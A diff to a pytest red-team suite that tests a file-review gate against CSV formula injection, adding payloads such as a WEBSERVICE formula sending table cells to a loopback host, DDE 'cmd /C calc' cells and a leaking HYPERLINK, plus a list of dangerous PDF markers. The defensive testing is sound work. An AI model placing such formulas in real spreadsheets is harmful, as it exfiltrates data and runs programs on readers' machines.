@@ -7,9 +7,10 @@ script or a fetch to "another site" (a loopback listener, :mod:`redteam13_suppor
 places, opens the pages in a real headless Chromium as the checker, and asserts that no script
 ran (no global ``__pwned...``, no dialog) and that nothing was fetched from the other site; and,
 over HTTP, that the gate never serves a staged file as a document, never changes a request on a
-GET, and cannot be framed. 16 attempts; one got through before its fix: the pages allowed frames
-of their own origin, which is also the origin of every workspace's JupyterLab (now
-``frame-ancestors 'none'``; see ``test_redteam13_review_view.py`` for what a checker saw differing
+GET, and cannot be framed; and that a table's cell is never a formula the checker's spreadsheet
+runs. 26 attempts and a control; 11 got through before their fix: the pages allowed frames of
+their own origin, which is also the origin of every workspace's JupyterLab (now
+``frame-ancestors 'none'``), and 10 formulas in a CSV's cells and headers (the ``formula`` rule; see ``test_redteam13_review_view.py`` for what a checker saw differing
 from what leaves, where most of this round got through).
 """
 
@@ -262,3 +263,30 @@ def test_a_pdf_that_acts_when_the_checker_opens_it(gate13, listener):
     for marker in (b"/JavaScript", b"/JS", b"/URI", b"/OpenAction", b"/Annots", b"/AcroForm", b"127.0.0.1"):
         assert marker not in r.content, marker
     assert listener.hits == []
+
+
+@pytest.mark.parametrize("cell", [
+    '=WEBSERVICE("http://127.0.0.1:9/?"&ENCODEURL(TEXTJOIN(",",1,A1:B9)))',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(1+1)*cmd|" /C calc"!A0',
+    ' =HYPERLINK("http://127.0.0.1:9/?"&A2,"see the method")',
+], ids=["webservice", "dde-plus", "dde-minus", "at", "hyperlink-after-blank"])
+@pytest.mark.parametrize("where", ["cell", "header"])
+def test_a_csv_cell_the_checkers_spreadsheet_runs(gate13, cell, where):
+    """CSV injection: a checker reads a long table in the raw file, in a spreadsheet, which runs a
+    cell written as a formula: ``WEBSERVICE`` sends the table to a web site before any approval,
+    a DDE link starts a program. The page shows it as text; the checks now fail it (``formula``).
+    All 10 got through before the rule (the table went to review)."""
+    quoted = cell.replace('"', '""')
+    content = (f'group,n\n"{quoted}",120\nB,130\n' if where == "cell" else f'"{quoted}",n\nA,120\nB,130\n')
+    view = gate13.submit(content=content.encode(), name="t.csv")
+    failed = {f["rule"] for f in view.files[0].check.get("findings", []) if f["status"] == "fail"}
+    assert "formula" in failed, view.files[0].check
+
+
+def test_ordinary_labels_are_no_formula(gate13):
+    """Controls: labels that start with a sign but are no formula."""
+    content = 'age,n\n+65 ans,120\n- autre (préciser),130\n"-",140\n<18,150\n'.encode()
+    view = gate13.submit(content=content, name="t.csv")
+    assert "formula" not in {f["rule"] for f in view.files[0].check.get("findings", [])}
